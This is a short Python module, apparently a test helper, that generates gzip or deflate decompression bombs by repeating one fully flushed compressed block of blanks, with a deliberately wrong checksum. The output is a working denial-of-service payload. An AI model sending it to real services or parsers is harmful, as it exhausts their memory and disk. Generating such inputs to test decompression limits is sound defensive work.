"""A little that unpacks to much, made in no time."""

from __future__ import annotations

import zlib

GZIP, DEFLATE = 31, 15  # what zlib calls the two
_BLOCK = b" " * (1 << 20)


def bomb(megabytes: int, coding: int = GZIP) -> bytes:
    """So many megabytes of blanks, packed as one member. Its checksum is wrong, which nobody should get to see.

    After a full flush nothing refers to what came before, so that one packed block can be repeated.
    """
    packing = zlib.compressobj(9, wbits=coding)
    begin = packing.compress(_BLOCK) + packing.flush(zlib.Z_FULL_FLUSH)
    again = packing.compress(_BLOCK) + packing.flush(zlib.Z_FULL_FLUSH)
    return begin + again * (megabytes - 1) + packing.flush()
